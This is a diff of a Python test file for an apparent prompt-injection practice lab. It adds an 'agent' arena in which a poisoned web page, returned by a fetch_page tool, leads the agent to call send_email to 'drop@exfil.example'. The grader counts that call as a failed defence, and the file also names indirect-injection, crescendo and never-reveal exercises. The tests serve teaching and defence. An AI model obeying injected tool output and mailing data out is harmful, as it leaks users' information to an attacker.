@@ -14,6 +14,7 @@ from lab.errors import ExerciseError, PromptError
 from lab.format.arenas import arena_problems, meet, who_wrote
 from lab.format.conversation import Dialogue
 from lab.format.loader import load_catalog, load_exercise, load_paths
+from lab.format.tools import ToolCall
 from lab.practice.arena import benign_standing, grade_pair, pair_result
 from lab.practice.attempts import Usage
 from lab.settings import paths
@@ -138,7 +139,7 @@ def test_into_a_variable_that_never_reaches_the_model(tmp_path: Path):
     # `_note` is sent by no block, and a learner's text cannot place a `_` variable
     assert problems_of(tmp_path, defend("pairing: {case: attack-direct, into: _note, benign: [benign-*]}\n")) == [
         (8, "pairing: the attacker's text in `{{ _note }}` never reaches a message of case 'attack-direct', so no attack could land",
-         "place `{{ _note }}` in the exercise's user block (or earlier turns), or name the variable that is sent")]
+         "place `{{ _note }}` in the exercise's user block (or earlier turns, or a tool's `result`), or name the variable that is sent")]
 
 
 def test_into_turns_when_the_defender_writes_the_prompt(tmp_path: Path):
@@ -261,8 +262,9 @@ def test_the_bundled_arenas_are_sound():
         "vault": [("attack", "adversarial/attack-judge-guard"), ("attack", "adversarial/attack-never-reveal"),
                   ("attack", "adversarial/attack-output-filter"), ("attack", "adversarial/attack-plain"),
                   ("defend", "adversarial/defend-battery")],
-        "inbox": [("attack", "adversarial/attack-poisoned-document"), ("defend", "adversarial/defend-indirect-injection")],
+        "inbox": [("attack", "adversarial/attack-document"), ("defend", "adversarial/defend-indirect-injection")],
         "slow-burn": [("attack", "adversarial/attack-crescendo"), ("defend", "adversarial/defend-crescendo")],
+        "agent": [("attack", "agents/attack-poisoned-document"), ("defend", "agents/defend-poisoned-tools")],
     }
     assert arena_problems(catalog.exercises) == []
 
@@ -304,7 +306,7 @@ def _answered(pair, *answers: str):
 
 
 def test_a_document_attack_lands_inside_the_defences_user_block():
-    defence, attack = bundled("adversarial/defend-indirect-injection"), bundled("adversarial/attack-poisoned-document")
+    defence, attack = bundled("adversarial/defend-indirect-injection"), bundled("adversarial/attack-document")
     document = solution(attack)
     pair = meet(defence, solution(defence), attack, document)
     user = pair.plan.opening[-1]
@@ -313,6 +315,25 @@ def test_a_document_attack_lands_inside_the_defences_user_block():
     assert [c.id for c in pair.exercise.rubric.criteria] == ["keeps-the-code", "does-not-refuse"]
     result = pair_result(pair, grade_pair(pair, t := [_answered(pair, "Invoice 2231 for £1,240 is due on 14 March.")]), t, "m", Usage(), 0.1)
     assert result["held"] is True and result["cases"][0]["conversations"][0][-1]["author"] == "model"
+
+
+def test_a_page_attack_lands_in_what_the_agents_tool_returns():
+    defence, attack = bundled("agents/defend-poisoned-tools"), bundled("agents/attack-poisoned-document")
+    page = solution(attack)
+    pair = meet(defence, solution(defence), attack, page)
+    assert pair.landed and page not in "\n".join(m.content for m in pair.plan.preview())  # not in a message: in fetch_page's result
+    assert pair.plan.toolbox.answer(ToolCall("call_1", "fetch_page", '{"url": "https://tools.example/pricing"}')).content == page.strip()
+    assert [t["function"]["name"] for t in pair.plan.tools] == ["read_inbox", "fetch_page", "search_docs", "send_email"]
+    dialogue = Dialogue(pair.plan)
+    dialogue.next_call()
+    dialogue.answer("", calls=[ToolCall("call_1", "fetch_page", '{"url": "https://tools.example/pricing"}')])
+    dialogue.next_call()
+    dialogue.answer("", calls=[ToolCall("call_2", "send_email", '{"to": "drop@exfil.example", "subject": "Audit copy", "body": "x"}')])
+    dialogue.next_call()
+    dialogue.answer("The Team plan costs 12 €.")
+    transcript = dialogue.transcript()
+    assert [who_wrote(m, page) for m in transcript.messages] == ["defence", "exercise", "model", "attack", "model", "exercise", "model"]
+    assert grade_pair(pair, [transcript]).passed is False  # an email went out: broken
 
 
 def test_a_conversation_attack_is_the_whole_conversation_after_the_system_prompt():
